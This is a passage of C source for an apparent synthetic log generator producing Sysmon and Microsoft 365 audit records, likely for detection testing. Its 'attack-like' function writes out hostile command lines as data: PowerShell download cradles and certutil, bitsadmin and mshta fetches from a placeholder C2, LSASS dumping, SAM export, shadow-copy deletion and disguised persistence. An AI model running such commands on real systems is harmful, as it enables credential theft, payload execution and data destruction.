                        : dport == 445 ? "microsoft-ds"
                                       : "ldaps";
    sysmon_head(g, b, h, 3, 5);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "Image", img);
    j_str(b, "User", user_name(g, p->user));
    j_str(b, "Protocol", "tcp");
    j_str(b, "Initiated", "true");
    j_str(b, "SourceIsIpv6", "false");
    j_str(b, "SourceIp", src);
    j_str(b, "SourceHostname", below(r, 4) ? h->fqdn : "-");
    j_u64(b, "SourcePort", range(r, 49152, 65535));
    j_str(b, "SourcePortName", "-");
    j_str(b, "DestinationIsIpv6", "false");
    j_str(b, "DestinationIp", dst);
    j_str(b, "DestinationHostname", below(r, 3) ? dom->name : "-");
    j_u64(b, "DestinationPort", dport);
    j_str(b, "DestinationPortName", pname);
    sysmon_tail(b);
}

static void emit_image_load(gen_t *g, buf_t *b, host_t *h)
{
    rng_t *r = &g->r;
    proc_t *p = pick_proc(g, h, 0);
    const dll_t *dll = &DLLS[below(r, COUNT(DLLS))];
    char img[320], hashes[256];
    image_of(g, p, img, sizeof(img));
    fake_hashes(hashes, sizeof(hashes), dll->path, dll->version);
    sysmon_head(g, b, h, 7, 3);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "Image", img);
    j_str(b, "ImageLoaded", dll->path);
    j_str(b, "FileVersion", dll->version);
    j_str(b, "Description", dll->desc);
    j_text(b, "Product", RAW WINOS);
    j_str(b, "Company", MS);
    j_str(b, "OriginalFileName", dll->orig);
    j_str(b, "Hashes", hashes);
    j_str(b, "Signed", "true");
    j_str(b, "Signature", "Microsoft Windows");
    j_str(b, "SignatureStatus", "Valid");
    j_str(b, "User", user_name(g, p->user));
    sysmon_tail(b);
}

static void call_trace(gen_t *g, char *out, size_t cap, const char *src_img)
{
    rng_t *r = &g->r;
    str_t s;
    s_init(&s, out, cap);
    s_fmt(&s, "C:\\WINDOWS\\SYSTEM32\\ntdll.dll+%x", range(r, 0x9d000, 0x9ffff));
    s_fmt(&s, "|C:\\WINDOWS\\System32\\KERNELBASE.dll+%x", range(r, 0x20000, 0x7ffff));
    unsigned extra = range(r, 1, 4);
    for (unsigned i = 0; i < extra; i++)
        s_fmt(&s, "|%s+%x", src_img, range(r, 0x1000, 0x3ffff));
    s_fmt(&s, "|C:\\WINDOWS\\System32\\KERNEL32.DLL+%x", range(r, 0x17000, 0x17fff));
    s_fmt(&s, "|C:\\WINDOWS\\SYSTEM32\\ntdll.dll+%x", range(r, 0x4c000, 0x4cfff));
}

static void emit_access_from(gen_t *g, buf_t *b, host_t *h, const proc_t *src, const proc_t *dst,
                             const char *access)
{
    rng_t *r = &g->r;
    char simg[320], dimg[320], trace[1024];
    image_of(g, src, simg, sizeof(simg));
    image_of(g, dst, dimg, sizeof(dimg));
    call_trace(g, trace, sizeof(trace), simg);
    sysmon_head(g, b, h, 10, 3);
    j_str(b, "UtcTime", g->t_utc);
    j_str(b, "SourceProcessGUID", src->guid);
    j_u64(b, "SourceProcessId", src->pid);
    j_u64(b, "SourceThreadId", new_pid(r));
    j_str(b, "SourceImage", simg);
    j_str(b, "TargetProcessGUID", dst->guid);
    j_u64(b, "TargetProcessId", dst->pid);
    j_str(b, "TargetImage", dimg);
    j_str(b, "GrantedAccess", access);
    j_str(b, "CallTrace", trace);
    j_str(b, "SourceUser", user_name(g, src->user));
    j_str(b, "TargetUser", user_name(g, dst->user));
    sysmon_tail(b);
}

static void emit_access(gen_t *g, buf_t *b, host_t *h)
{
    rng_t *r = &g->r;
    static const char *const masks[] = {"0x1000", "0x1400", "0x101000", "0x100000", "0x1410"};
    const proc_t *src, *dst;
    if (below(r, 3) == 0) { /* Defender scanning a process */
        src = &h->procs[3];
        dst = pick_proc(g, h, 0);
    } else { /* a process querying one of its own children or siblings */
        src = pick_proc(g, h, F_BROWSER | F_SHELL);
        dst = pick_proc(g, h, F_BROWSER | F_OFFICE);
    }
    if (dst->def == g->def_lsass)
        dst = &h->procs[4];
    emit_access_from(g, b, h, src, dst, PICK(r, masks));
}

static void file_target(gen_t *g, const proc_t *p, char *out, size_t cap)
{
    rng_t *r = &g->r;
    unsigned f = CATALOG[p->def].flags;
    const char *tpl;
    if (f & F_BROWSER) {
        static const char *const t[] = {
            "C:\\Users\\{U}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data"
            "\\f_0{x}",
            "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Code Cache\\js\\"
            "{x}{x}_0",
            "C:\\Users\\{U}\\Downloads\\{D}.pdf",
            "C:\\Users\\{U}\\AppData\\Local\\Temp\\chrome_BITS_{N}_{N}\\BIT{x}.tmp"};
        tpl = PICK(r, t);
    } else if (f & F_OFFICE) {
        static const char *const t[] = {
            "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.MSO\\{x}.tmp",
            "C:\\Users\\{U}\\AppData\\Roaming\\Microsoft\\Office\\Recent\\{D}.LNK",
            "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Olk\\Attachments\\ooa-{x}\\{D}.xlsx"};
        tpl = PICK(r, t);
    } else if (f & F_SYNC) {
        tpl = "C:\\Users\\{U}\\OneDrive - Contoso\\Documents\\{D}.xlsx";
    } else if (f & F_AV) {
        tpl = "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-{x}.bin";
    } else if (p->user < 0) {
        static const char *const t[] = {
            "C:\\Windows\\Prefetch\\SVCHOST.EXE-{x}.pf",
            "C:\\Windows\\ServiceState\\EventLog\\Data\\lastalive1.dat",
            "C:\\Windows\\SoftwareDistribution\\Download\\{x}{x}\\metadata.cab",
            "C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER{x}.tmp.xml"};
        tpl = PICK(r, t);
    } else {
        static const char *const t[] = {
            "C:\\Users\\{U}\\AppData\\Local\\Temp\\{x}.tmp",
            "C:\\Users\\{U}\\Documents\\{D}.txt",
            ("C:\\Users\\{U}\\AppData\\Local\\Packages\\Microsoft.Windows.Search_cw5n1h2txyewy\\"
             "LocalState\\{x}.json"),
        };
        tpl = PICK(r, t);
    }
    expand(g, out, cap, tpl, p->user);
}

static void emit_file_create(gen_t *g, buf_t *b, host_t *h, const proc_t *p, const char *target)
{
    char img[320], tf[400], ctime[40];
    if (!p)
        p = pick_proc(g, h, 0);
    image_of(g, p, img, sizeof(img));
    if (target)
        snprintf(tf, sizeof(tf), "%s", target);
    else
        file_target(g, p, tf, sizeof(tf));
    sysmon_head(g, b, h, 11, 2);
    /* An overwritten file keeps its older creation time. */
    if (below(&g->r, 4) == 0)
        fmt_time(ctime, g->now_us - range(&g->r, 1000000, 400000000), TS_UTC);
    else
        snprintf(ctime, sizeof(ctime), "%s", g->t_utc);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "Image", img);
    j_str(b, "TargetFilename", tf);
    j_str(b, "CreationUtcTime", ctime);
    j_str(b, "User", user_name(g, p->user));
    sysmon_tail(b);
}

static void reg_target(gen_t *g, const proc_t *p, char *key, size_t kcap, char *details,
                       size_t dcap)
{
    rng_t *r = &g->r;
    char sid[64];
    uint32_t hi, lo;
    int u = p->user >= 0 ? p->user : 0;
    user_sid(g, u, sid, sizeof(sid));
    str_t k;
    s_init(&k, key, kcap);
    unsigned f = CATALOG[p->def].flags;
    if (f & F_AV) {
        s_puts(&k, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\");
        s_puts(&k, below(r, 2) ? "SignaturesLastUpdated" : "AVSignatureApplied");
        snprintf(details, dcap, "Binary Data");
    } else if (p->user < 0) {
        switch (below(r, 3)) {
        case 0:
            s_fmt(&k,
                  "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\%s\\"
                  "\\Device\\HarddiskVolume3\\Program Files\\Google\\Chrome\\Application\\"
                  "chrome.exe",
                  sid);
            snprintf(details, dcap, "Binary Data");
            break;
        case 1:
            s_puts(&k, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\"
                       "Orchestrator\\UScheduler\\LastScanTime");
            hi = range(r, 0x01db0000, 0x01dbffff);
            lo = (uint32_t)rnd(r);
            snprintf(details, dcap, "QWORD (0x%08x-0x%08x)", hi, lo);
            break;
        default:
            s_fmt(&k,
                  "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\"
                  "{%08x-1b2c-4d3e-8f40-%012" PRIx64 "}\\DhcpIPAddress",
                  (unsigned)fnv1a(sid), (uint64_t)fnv1a(sid) & UINT64_C(0xFFFFFFFFFFFF));
            hi = range(r, 1, 40);
            lo = range(r, 0, 255);
            snprintf(details, dcap, "10.%u.%u.%u", hi, lo, range(r, 10, 250));
            break;
        }
    } else {
        switch (below(r, 4)) {
        case 0:
            s_fmt(&k,
                  "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                  "RecentDocs\\.docx\\%u",
                  sid, range(r, 0, 40));
            snprintf(details, dcap, "Binary Data");
            break;
        case 1:
            s_fmt(&k,
                  "HKU\\%s\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities"
                  "\\%s_ADAL\\LastSwitchedTime",
                  sid, g->users[u].oid);
            snprintf(details, dcap, "DWORD (0x%08x)", (unsigned)rnd(r));
            break;
        case 2:
            s_fmt(&k,
                  "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\CloudStore\\Store\\"
                  "Cache\\DefaultAccount\\$$windows.data.unifiedtile.startglobalproperties\\"
                  "Current\\Data",
                  sid);
            snprintf(details, dcap, "Binary Data");
            break;
        default:
            s_fmt(&k,
                  "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                  "UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\"
                  "HRZR_PGYFRFFVBA",
                  sid);
            snprintf(details, dcap, "Binary Data");
            break;
        }
    }
}

static void emit_registry(gen_t *g, buf_t *b, host_t *h, unsigned eid, const proc_t *p,
                          const char *key_override, const char *details_override)
{
    char img[320], key[512], details[320];
    if (!p)
        p = pick_proc(g, h, 0);
    image_of(g, p, img, sizeof(img));
    reg_target(g, p, key, sizeof(key), details, sizeof(details));
    if (key_override)
        snprintf(key, sizeof(key), "%s", key_override);
    if (details_override)
        snprintf(details, sizeof(details), "%s", details_override);
    if (eid == 12) {
        /* Key-level events name the key, not the value. */
        char *last = strrchr(key, '\\');
        if (last && last > key + 5)
            *last = 0;
    }
    sysmon_head(g, b, h, eid, 2);
    j_str(b, "EventType", eid == 13 ? "SetValue" : below(&g->r, 4) ? "CreateKey" : "DeleteKey");
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "Image", img);
    j_str(b, "TargetObject", key);
    if (eid == 13)
        j_str(b, "Details", details);
    j_str(b, "User", user_name(g, p->user));
    sysmon_tail(b);
}

static void emit_dns(gen_t *g, buf_t *b, host_t *h)
{
    rng_t *r = &g->r;
    proc_t *p = pick_proc(g, h, F_NET);
    const domain_t *dom = domain_for(g, p);
    char img[320], ip[16], results[512];
    image_of(g, p, img, sizeof(img));
    str_t s;
    s_init(&s, results, sizeof(results));
    if (dom->net_a != 10 && below(r, 3) == 0)
        s_fmt(&s, "type: 5 %s.edgekey.net;", dom->name);
    unsigned n = dom->net_a == 10 ? 1 : range(r, 1, 4);
    for (unsigned i = 0; i < n; i++) {
        fmt_ipv4(ip, dom->net_a == 10 ? (uint32_t)10 << 24 | range(r, 10, 12) : domain_ip(g, dom));
        s_fmt(&s, "::ffff:%s;", ip);
    }
    sysmon_head(g, b, h, 22, 5);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "QueryName", dom->name);
    j_u64(b, "QueryStatus", 0);
    j_str(b, "QueryResults", results);
    j_str(b, "Image", img);
    j_str(b, "User", user_name(g, p->user));
    sysmon_tail(b);
}

/* ---------------------------------------------------------------- attack-like Sysmon events */

static void emit_malicious(gen_t *g, buf_t *b, host_t *h)
{
    rng_t *r = &g->r;
    char cmd[640], c2[32], tmp[400];
    str_t s;
    s_init(&s, cmd, sizeof(cmd));
    snprintf(c2, sizeof(c2), "198.51.100.%u", range(r, 2, 250));
    const char *sam = g->users[h->user].sam;
    unsigned kind = below(r, 12);
    const char *def = NULL, *parent = NULL;
    switch (kind) {
    case 0:
    case 1: {
        char script[256];
        snprintf(script, sizeof(script),
                 "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s.ps1')", c2,
                 below(r, 2) ? "update" : "stage2");
        s_puts(&s, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w "
                   "hidden -enc ");
        b64_utf16le(&s, script);
        def = "powershell";
        parent = below(r, 2) ? "winword" : "explorer";
        break;
    }
    case 2:
        s_fmt(&s,
              "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Users\\%s\\AppData\\Local\\Temp\\"
              "%08x.dll,#1",
              sam, (unsigned)rnd(r));
        def = "rundll32";
        parent = "explorer";
        break;
    case 3:
        s_fmt(&s,
              "certutil.exe -urlcache -split -f http://%s/invoice.exe "
              "C:\\Users\\Public\\invoice.exe",
              c2);
        def = "certutil";
        parent = "cmd";
        break;
    case 4: {
        proc_t *lsass = &h->procs[1];
        s_fmt(&s,
              "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, "
              "MiniDump %u C:\\Windows\\Temp\\debug.bin full",
              lsass->pid);
        def = "rundll32";
        parent = "cmd";
        break;
    }
    case 5:
        s_puts(&s, "vssadmin.exe delete shadows /all /quiet");
        def = "vssadmin";
        parent = "cmd";
        break;
    case 6:
        s_fmt(&s, "\"C:\\Windows\\System32\\mshta.exe\" http://%s/doc.hta", c2);
        def = "mshta";
        parent = "explorer";
        break;
    case 7:
        s_puts(&s, "schtasks.exe /create /sc minute /mo 30 /tn \"OneDrive Standalone Update\" "
                   "/tr \"C:\\Users\\Public\\Libraries\\svchost.exe\" /f");
        def = "schtasks";
        parent = "cmd";
        break;
    case 8:
        s_puts(&s, "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save");
        def = "reg";
        parent = "cmd";
        break;
    case 9:
        s_fmt(&s,
              "bitsadmin /transfer update /download /priority high http://%s/a.exe "
              "C:\\Users\\Public\\a.exe",
              c2);
        def = "bitsadmin";
        parent = "cmd";
        break;
    case 10: { /* persistence: a Run key pointing to a dropped binary */
        char sid[64], key[256];
        user_sid(g, h->user, sid, sizeof(sid));
        snprintf(key, sizeof(key),
                 "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate", sid);
        snprintf(tmp, sizeof(tmp), "C:\\Users\\%s\\AppData\\Roaming\\svchost.exe", sam);
        proc_t *shell = find_proc(h, def_index("explorer"));
        emit_registry(g, b, h, 13, shell, key, tmp);
        return;
    }
    default: { /* credential theft: full access to LSASS from an interactive PowerShell */
        int ps = def_index("powershell");
        proc_t *src = find_proc(h, ps);
        if (!src)
            src = spawn(g, h, ps, free_slot(h), (uint32_t)(g->now_us / 1000000) - 30);
        emit_access_from(g, b, h, src, &h->procs[1], below(r, 2) ? "0x1fffff" : "0x1010");
        return;
    }
    }
    int d = def_index(def);
    int pd = def_index(parent);
    const proc_t *pp = find_proc(h, pd);
    if (!pp) {
        int slot = free_slot(h);
        pp = spawn(g, h, pd, slot, (uint32_t)(g->now_us / 1000000) - range(r, 5, 600));
    }
    emit_proc_create(g, b, h, d, cmd, pp);
}

/* Share of each Sysmon event ID in a workstation fleet with a typical filtering config. */
static const unsigned SYSMON_IDS[] = {1, 3, 5, 7, 10, 11, 12, 13, 22};
static const unsigned SYSMON_MIX[] = {8, 25, 8, 20, 5, 12, 5, 10, 7};

static void emit_sysmon(gen_t *g, buf_t *b)
{
    rng_t *r = &g->r;
    host_t *h = get_host(g, (int)below(r, N_HOSTS));
    g->n_sysmon++;
    if (chance_ppm(r, g->malicious_ppm)) {
        g->n_bad++;
        emit_malicious(g, b, h);
        return;
    }
    switch (SYSMON_IDS[pick_weighted(r, SYSMON_MIX, COUNT(SYSMON_MIX))]) {
    case 1: {
        emit_proc_create(g, b, h, (int)pick_weighted(r, g->def_weight, N_DEFS), NULL, NULL);
        break;
    }
    case 3: emit_network(g, b, h); break;
    case 5: emit_proc_terminate(g, b, h); break;
    case 7: emit_image_load(g, b, h); break;
    case 10: emit_access(g, b, h); break;
    case 11: emit_file_create(g, b, h, NULL, NULL); break;
    case 12: emit_registry(g, b, h, 12, NULL, NULL, NULL); break;
    case 13: emit_registry(g, b, h, 13, NULL, NULL, NULL); break;
    default: emit_dns(g, b, h); break;
    }
}

/* ---------------------------------------------------------------- Microsoft 365 */

typedef struct {
    const char *name;
    unsigned weight;
} op_t;

static const op_t M365_OPS[] = {
    {"FileAccessed", 28},      {"FilePreviewed", 6},
    {"FileModified", 7},       {"FileDownloaded", 7},
    {"FileUploaded", 4},       {"FileSyncDownloadedFull", 2},
    {"MailItemsAccessed", 25}, {"UserLoggedIn", 12},
    {"UserLoginFailed", 2},    {"Send", 5},
    {"Set-Mailbox", 1},        {"New-InboxRule", 1},
};

static const char *const SITES[] = {"Finance", "Engineering", "HR",       "Sales",
                                    "Legal",   "Intranet",    "Marketing"};
static const char *const EXTS[] = {"docx", "xlsx", "pptx", "pdf", "png", "txt", "csv", "aspx"};

static void site_guid(const char *site, const char *salt, char *out)
{
    char key[128];
    snprintf(key, sizeof(key), "%s/%s", site, salt);
    rng_t hr = {fnv1a(key)};
    fmt_guid(out, &hr, 0);
}

static void m365_common(gen_t *g, buf_t *b, const char *op, unsigned record_type,
                        const char *user_key, unsigned user_type, const char *workload)
{
    char t[40], id[40];
    fmt_time(t, g->now_us - (uint64_t)range(&g->r, 0, 90) * 1000000, TS_M365);
    fmt_guid(id, &g->r, 0);
    b->comma = 0;
    b_putc(b, '{');
    j_str(b, "CreationTime", t);
    j_str(b, "Id", id);
    j_str(b, "Operation", op);
    j_str(b, "OrganizationId", g->org_id);
    j_u64(b, "RecordType", record_type);
    j_str(b, "UserKey", user_key);
    j_u64(b, "UserType", user_type);
    j_u64(b, "Version", 1);
    j_str(b, "Workload", workload);
}

static void client_ip(gen_t *g, const user_t *u, char *out)
{
    rng_t *r = &g->r;
    unsigned k = below(r, 10);
    if (k < 6) /* office egress */
        snprintf(out, 48, "203.0.113.%u", range(r, 10, 14));
    else if (k < 9)
        fmt_ipv4(out, u->home_ip);
    else {
        uint32_t w[4];
        for (int i = 0; i < 4; i++)
            w[i] = range(r, i ? 1 : 0x1000, 0xffff);
        snprintf(out, 48, "2a02:%x:%x:%x::%x", w[0], w[1], w[2], w[3]);
    }
}

static void emit_file_op(gen_t *g, buf_t *b, const user_t *u, const char *op)
{
    rng_t *r = &g->r;
    int onedrive = below(r, 2);
    char key[80], ip[48], site_url[160], obj[512], rel[64], fname[160], corr[40];
    char list_id[40], item_id[40], site[40], web[40], who[64];
    const char *ext = PICK(r, EXTS);
    snprintf(key, sizeof(key), "i:0h.f|membership|%016" PRIx64 "@live.com", u->puid);
    client_ip(g, u, ip);
    const char *site_name = PICK(r, SITES);
    if (onedrive) {
        snprintf(who, sizeof(who), "%s", u->upn);
        for (char *c = who; *c; c++)
            if (*c == '.' || *c == '@')
                *c = '_';
        snprintf(site_url, sizeof(site_url), "https://contoso-my.sharepoint.com/personal/%s/", who);
        snprintf(rel, sizeof(rel), "Documents%s", below(r, 3) ? "" : "/Shared with Everyone");
        site_name = who;
    } else {
        snprintf(site_url, sizeof(site_url), "https://contoso.sharepoint.com/sites/%s/", site_name);
        snprintf(rel, sizeof(rel), "Shared Documents%s", below(r, 2) ? "" : "/Archive");
    }
    if (strcmp(ext, "aspx") == 0)
        snprintf(fname, sizeof(fname), "AllItems.aspx");
    else
        snprintf(fname, sizeof(fname), "%s.%s", PICK(r, DOCS), ext);
    snprintf(obj, sizeof(obj), "%s%s/%s", site_url, rel, fname);
    fmt_guid(corr, r, 0);
    site_guid(site_name, "list", list_id);
    site_guid(site_name, "site", site);
    site_guid(site_name, "web", web);
    fmt_guid(item_id, r, 0);

    m365_common(g, b, op, 6, key, 0, onedrive ? "OneDrive" : "SharePoint");
    j_str(b, "ClientIP", ip);
    j_str(b, "ObjectId", obj);
    j_str(b, "UserId", u->upn);
    j_str(b, "CorrelationId", corr);
    j_str(b, "EventSource", "SharePoint");
    j_str(b, "ItemType", "File");
    j_str(b, "ListId", list_id);
    j_str(b, "ListItemUniqueId", item_id);
    j_str(b, "Site", site);
    j_str(b, "UserAgent", PICK(r, UA_BROWSERS));
    j_str(b, "WebId", web);
    if (strcmp(op, "FileUploaded") == 0)
        j_str(b, "ImplicitShare", "No");
    j_str(b, "SourceFileExtension", ext);
    j_str(b, "SiteUrl", site_url);
    j_str(b, "SourceFileName", fname);
    j_str(b, "SourceRelativeUrl", rel);
    j_close(b);
    b_putc(b, '\n');
}

static void originating_server(gen_t *g, char *out)
{
    static const char *const pfx[] = {"DM6PR11MB", "BN6PR04MB", "SA1PR12MB", "CH3PR13MB"};
    const char *p = PICK(&g->r, pfx);
    uint32_t unit = range(&g->r, 1000, 9999);
    uint32_t build = range(&g->r, 8100, 8300);
    snprintf(out, 64, "%s%04u (15.20.%u.%03u)\r\n", p, unit, build, range(&g->r, 0, 30));
}

static void message_id(gen_t *g, char *out)
{
    snprintf(out, 96, "<%s%016" PRIX64 "@%s.namprd11.prod.outlook.com>", "DM6PR11MB", rnd(&g->r),
             "DM6PR11MB4321");
}

static void exchange_mailbox_fields(gen_t *g, buf_t *b, const user_t *u, const char *ip,
                                    const char *client)
{
    char sid[64], srv[64];
    user_sid(g, (int)(u - g->users), sid, sizeof(sid));
    originating_server(g, srv);
    j_str(b, "ClientIPAddress", ip);
    j_str(b, "ClientInfoString", client);
    j_raw(b, "ExternalAccess", "false");
    j_u64(b, "InternalLogonType", 0);
    j_u64(b, "LogonType", 0);
    j_str(b, "LogonUserSid", sid);
    j_str(b, "MailboxGuid", u->mbx);
    j_str(b, "MailboxOwnerSid", sid);
    j_str(b, "MailboxOwnerUPN", u->upn);
    j_str(b, "OrganizationName", "contoso.onmicrosoft.com");
    j_str(b, "OriginatingServer", srv);
}

static const char *const MAIL_CLIENTS[] = {
    "Client=OUTLOOK.EXE;Client=RPC;", "Client=REST;Client=RESTSystem;;",
    "Client=OutlookService;Outlook-iOS/2.0;", "Client=OWA;Action=ViaProxy"};

static void folder_id(gen_t *g, char *out)
{
    str_t s;
    s_init(&s, out, 96);
    s_puts(&s, "LgAAAAA");
    for (int i = 0; i < 60; i++)
        s_putc(&s, B64[below(&g->r, 64)]);
    s_puts(&s, "AAAB");
}

static void emit_mail_access(gen_t *g, buf_t *b, const user_t *u)
{
    rng_t *r = &g->r;
    char key[24], ip[48], fid[96], mid[96], sess[40];
    snprintf(key, sizeof(key), "%016" PRIX64, u->puid);
    client_ip(g, u, ip);
    fmt_guid(sess, r, 0);
    m365_common(g, b, "MailItemsAccessed", 50, key, 0, "Exchange");
    j_str(b, "ClientIP", ip);
    j_str(b, "UserId", u->upn);
    j_str(b, "AppId", "00000002-0000-0ff1-ce00-000000000000");
    j_str(b, "ClientAppId", "");
    exchange_mailbox_fields(g, b, u, ip, PICK(r, MAIL_CLIENTS));
    j_str(b, "ResultStatus", "Succeeded");
    j_str(b, "SessionId", sess);
    j_arr(b, "OperationProperties");
    int sync = below(r, 5) == 0;
    j_nv(b, "MailAccessType", sync ? "Sync" : "Bind");
    j_nv(b, "IsThrottled", "False");
    j_arr_close(b);
    j_arr(b, "Folders");
    unsigned nf = range(r, 1, 2);
    unsigned total = 0;
    for (unsigned f = 0; f < nf; f++) {
        j_open(b, NULL);
        j_arr(b, "FolderItems");
        unsigned ni = sync ? 0 : range(r, 1, 4);
        for (unsigned i = 0; i < ni; i++) {
            message_id(g, mid);
            j_open(b, NULL);
            j_str(b, "InternetMessageId", mid);
            j_u64(b, "SizeInBytes", range(r, 4000, 900000));
            j_close(b);
        }
        total += ni ? ni : 1;
        j_arr_close(b);
        folder_id(g, fid);
        j_str(b, "Id", fid);
        j_str(b, "Path", f == 0 ? "\\Inbox" : "\\Archive");
        j_close(b);
    }
    j_arr_close(b);
    j_u64(b, "OperationCount", total);
    j_close(b);
    b_putc(b, '\n');
}

static void emit_send(gen_t *g, buf_t *b, const user_t *u)
{
    rng_t *r = &g->r;
    char key[24], ip[48], fid[96], mid[96], item[96];
    snprintf(key, sizeof(key), "%016" PRIX64, u->puid);
    client_ip(g, u, ip);
    m365_common(g, b, "Send", 2, key, 0, "Exchange");
    j_str(b, "ClientIP", ip);
    j_str(b, "UserId", u->upn);
    exchange_mailbox_fields(g, b, u, ip, PICK(r, MAIL_CLIENTS));
    j_str(b, "ResultStatus", "Succeeded");
    j_open(b, "Item");
    folder_id(g, item);
    item[0] = 'R';
    item[1] = 'g';
    j_str(b, "Id", item);
    message_id(g, mid);
    j_str(b, "InternetMessageId", mid);
    j_raw(b, "IsRecord", "false");
    j_open(b, "ParentFolder");
    folder_id(g, fid);
    j_str(b, "Id", fid);
    j_str(b, "Path", "\\Sent Items");
    j_close(b);
    j_u64(b, "SizeInBytes", range(r, 3000, 2000000));
    char subj[160];
    const char *re = below(r, 3) ? "RE: " : "";
    snprintf(subj, sizeof(subj), "%s%s", re, PICK(r, DOCS));
    j_str(b, "Subject", subj);
    j_close(b);
    j_close(b);
    b_putc(b, '\n');
}

static void emit_admin(gen_t *g, buf_t *b, const user_t *u, const char *op)
{
    rng_t *r = &g->r;
    const user_t *target = &g->users[below(r, N_USERS)];
    char key[24], srv[64], obj[160], sess[40];
    snprintf(key, sizeof(key), "%016" PRIX64, u->puid);
    originating_server(g, srv);
    srv[strlen(srv) - 2] = 0; /* admin records carry no trailing CRLF */
    fmt_guid(sess, r, 0);
    snprintf(obj, sizeof(obj), "%s", target->upn);
    char *at = strchr(obj, '@');
    if (at)
        *at = 0;
    m365_common(g, b, op, 1, key, 2, "Exchange");
    j_str(b, "ClientIP", "");
    j_str(b, "ObjectId", obj);
    j_str(b, "UserId", u->upn);
    j_str(b, "AppId", "");
    j_str(b, "ClientAppId", "");
    j_raw(b, "ExternalAccess", "false");
    j_str(b, "OrganizationName", "contoso.onmicrosoft.com");
    j_str(b, "OriginatingServer", srv);
    j_arr(b, "Parameters");
    j_nv(b, "Identity", target->upn);
    if (strcmp(op, "Set-Mailbox") == 0) {
        unsigned k = below(r, 4);
        if (k == 0) {
            char fwd[96];
            snprintf(fwd, sizeof(fwd), "smtp:%s.%s@outlook.com", target->first, target->last);
            j_nv(b, "ForwardingSmtpAddress", fwd);
            j_nv(b, "DeliverToMailboxAndForward", "True");
        } else if (k == 1) {
            j_nv(b, "AuditEnabled", "True");
        } else if (k == 2) {
            j_nv(b, "RetentionPolicy", "Default MRM Policy");
        } else {
            j_nv(b, "ProhibitSendQuota", "49.5 GB (53,150,220,288 bytes)");
        }
    } else {
        j_nv(b, "Name", below(r, 2) ? "Newsletters" : "Move invoices");
        j_nv(b, "From", below(r, 2) ? "news@contoso-partners.com" : "billing@fabrikam.com");
        j_nv(b, "MoveToFolder", "Archive");
        j_nv(b, "StopProcessingRules", "True");
    }
    j_arr_close(b);
    j_str(b, "ResultStatus", "True");
    j_str(b, "SessionId", sess);
    j_close(b);
    b_putc(b, '\n');
}

static const char *const AAD_APPS[][2] = {
    {"00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"},
    {"00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"},
    {"1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams"},
    {"d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Office"},
    {"4765445b-32c6-49b0-83e6-1d93765276ca", "OfficeHome"}};

static void emit_logon(gen_t *g, buf_t *b, const user_t *u, int failed)
{
    rng_t *r = &g->r;
    char ip[48], inter[40], intra[40], sess[40];
    const char *const *app = AAD_APPS[below(r, COUNT(AAD_APPS))];
    client_ip(g, u, ip);
    fmt_guid(inter, r, 0);
    fmt_guid(intra, r, 0);
    fmt_guid(sess, r, 0);
    m365_common(g, b, failed ? "UserLoginFailed" : "UserLoggedIn", 15, u->oid, 0,
                "AzureActiveDirectory");
    j_str(b, "ResultStatus", failed ? "Failed" : "Success");
    j_str(b, "ClientIP", ip);
    j_str(b, "ObjectId", app[0]);
    j_str(b, "UserId", u->upn);
    j_u64(b, "AzureActiveDirectoryEventType", 1);
    j_arr(b, "ExtendedProperties");
    j_nv(b, "ResultStatusDetail", failed ? "Success" : below(r, 3) ? "Redirect" : "Success");
    j_nv(b, "UserAgent", PICK(r, UA_BROWSERS));
    j_nv(b, "RequestType", below(r, 2) ? "OAuth2:Authorize" : "Login:login");
    j_arr_close(b);
    j_arr(b, "ModifiedProperties");
    j_arr_close(b);
    j_arr(b, "Actor");
    j_open(b, NULL);
    j_str(b, "ID", u->oid);
    j_u64(b, "Type", 0);
    j_close(b);
    j_open(b, NULL);
    j_str(b, "ID", u->upn);
    j_u64(b, "Type", 5);
    j_close(b);
    j_arr_close(b);
    j_str(b, "ActorContextId", g->org_id);
    j_str(b, "ActorIpAddress", ip);
    j_str(b, "InterSystemsId", inter);
    j_str(b, "IntraSystemId", intra);
    j_str(b, "SupportTicketId", "");
    j_arr(b, "Target");
    j_open(b, NULL);
    j_str(b, "ID", app[0]);
    j_u64(b, "Type", 0);
    j_close(b);
    j_arr_close(b);
    j_str(b, "TargetContextId", g->org_id);
    j_str(b, "ApplicationId", app[0]);
    j_arr(b, "DeviceProperties");
    j_nv(b, "OS", below(r, 4) ? "Windows 10" : "MacOs");
